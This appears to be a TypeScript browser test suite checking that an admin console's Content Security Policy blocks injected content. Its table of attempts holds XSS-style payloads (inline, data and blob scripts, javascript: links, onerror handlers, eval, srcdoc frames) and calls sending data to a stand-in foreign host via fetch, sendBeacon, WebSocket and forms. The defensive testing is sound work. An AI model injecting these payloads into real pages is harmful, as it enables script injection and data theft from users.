import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import type { AddressInfo } from "node:net";
import { openConsole, type TestConsole } from "./console.ts";
import { FOREIGN_HOST } from "./hostile-texts.ts";
import { answerAsStranger } from "./watched.ts";

let tutti: TestConsole;
before(async () => {
  tutti = await openConsole();
});
after(async () => {
  await tutti[Symbol.asyncDispose]();
});

/** What an injected element or script would do, and the part of the policy that must refuse it. */
const ATTEMPTS: Readonly<Record<string, readonly [refusedBy: string, script: string]>> = {
  "an inline script": ["script-src-elem", `append("script", {}, "globalThis.hacked = 'inline'")`],
  "a script of a data address": ["script-src-elem", `append("script", { src: "data:text/javascript,globalThis.hacked='data'" })`],
  "a script of a blob": ["script-src-elem", `append("script", { src: URL.createObjectURL(new Blob(["globalThis.hacked='blob'"])) })`],
  "a foreign script": ["script-src-elem", `append("script", { src: "https://${FOREIGN_HOST}/script.js" })`],
  "an imported script": ["script-src-elem", `import("data:text/javascript,globalThis.hacked='import'").catch(() => {})`],
  "a link that runs": ["script-src-elem", `append("a", { href: "javascript:globalThis.hacked='link'" }).click()`],
  "a handler in markup": ["script-src-attr", `append("div", {}).innerHTML = "<img src=x onerror=\\"globalThis.hacked='handler'\\">"`],
  eval: ["script-src", `try { globalThis.eval("globalThis.hacked = 'eval'") } catch {}`],
  "a function of a text": ["script-src", `try { new Function("globalThis.hacked = 'Function'")() } catch {}`],
  "a worker of a data address": ["worker-src", `try { new Worker("data:text/javascript,postMessage(1)") } catch {}`],
  "a worker of a blob": ["worker-src", `try { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))) } catch {}`],
  "an inline style": ["style-src-elem", `append("style", {}, "body { display: none }")`],
  "a style in markup": ["style-src-attr", `append("div", {}).innerHTML = "<i style='color: red'></i>"`],
  "a foreign style": ["style-src-elem", `append("link", { rel: "stylesheet", href: "https://${FOREIGN_HOST}/style.css" })`],
  "an object": ["object-src", `append("object", { data: "data:text/html,x" })`],
  "a frame of our own page": ["frame-src", `append("iframe", { src: location.href })`],
  "a frame of a text": [
    "script-src-elem",
    `append("iframe", { onload: () => resolve("script-src-elem"), srcdoc: "<script>parent.hacked='srcdoc'</script>" })`,
  ],
  "a foreign picture": ["img-src", `append("img", { src: "https://${FOREIGN_HOST}/x.png" })`],
  "a foreign sound": ["media-src", `append("audio", { src: "https://${FOREIGN_HOST}/x.mp3" }).load()`],
  "a foreign font": ["font-src", `new FontFace("evil", "url(https://${FOREIGN_HOST}/x.woff2)").load().catch(() => {})`],
  "a request": ["connect-src", `fetch("https://${FOREIGN_HOST}/").catch(() => {})`],
  "a beacon": ["connect-src", `navigator.sendBeacon("https://${FOREIGN_HOST}/beacon", document.title)`],
  "a socket": ["connect-src", `try { new WebSocket("wss://${FOREIGN_HOST}/socket") } catch {}`],
  "a stream of events": ["connect-src", `new EventSource("https://${FOREIGN_HOST}/events")`],
  "a form": ["form-action", `append("form", { action: "https://${FOREIGN_HOST}/form" }).submit()`],
  "another base": ["base-uri", `document.querySelector("base").remove(); append("base", { href: "https://${FOREIGN_HOST}/" })`],
};

/** Does one of them, and tells which part of the policy refused it; the browser says so itself. */
const attempt = (script: string): string => `new Promise((resolve) => {
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective), { once: true });
  const append = (name, attributes, content = "") => {
    const node = Object.assign(document.createElement(name), attributes);
    node.textContent = content;
    document.body.append(node);
    return node;
  };
  // What a test evaluates itself may use eval; what a page does afterwards may not.
  requestAnimationFrame(() => { ${script}; });
})`;

test("the policy of the pages refuses each script, style, frame, form and request of a stranger", { timeout: 120_000 }, async () => {
  const page = await tutti.open();
  const asked: string[] = [];
  await answerAsStranger(page, (url) => asked.push(url));
  for (const [what, [refusedBy, script]] of Object.entries(ATTEMPTS)) {
    assert.equal(await page.evaluate<string>(attempt(script)), refusedBy, what);
    assert.equal(await page.evaluate("globalThis.hacked"), undefined, what);
  }
  assert.deepEqual(asked, []);
  assert.ok(page.problems.some((problem) => problem.includes("Content Security Policy")));
});

test("no foreign page can show the console within itself, or reach what opened it", async () => {
  await using foreign = createServer((_, response) => {
    response.setHeader("content-type", "text/html");
    response.end(`<iframe src="${tutti.tutti.url}/admin/approvals"></iframe>`);
  }).listen(0, "localhost");
  await new Promise((resolve) => foreign.once("listening", resolve));
  const page = await tutti.open();
  const refused = page.waitForEvent("requestfailed", (request) => request.url().endsWith("/admin/approvals"));
  await page.goto(`http://localhost:${(foreign.address() as AddressInfo).port}/`);
  assert.match((await refused).failure()?.errorText ?? "", /BLOCKED_BY_RESPONSE/);
  for (const frame of page.frames()) assert.equal(await frame.getByRole("navigation").count(), 0);
  const { headers } = await fetch(`${tutti.tutti.url}/admin/`);
  for (const [name, value] of [
    ["referrer-policy", "no-referrer"],
    ["x-content-type-options", "nosniff"],
    ["cross-origin-opener-policy", "same-origin"],
    ["cross-origin-resource-policy", "same-origin"],
  ] as const)
    assert.equal(headers.get(name), value);
});

test("a part of a page that cannot be drawn is told as a mistake, so that every test of pages sees it", async () => {
  const page = await tutti.open("/runs");
  await page.route("**/v1/schedules", (route) => route.fulfill({ json: { schedules: [null] } }));
  await page.getByRole("link", { name: "Schedules" }).click();
  await page.getByText("could not be shown").waitFor();
  assert.ok(page.problems.length > 0);
});
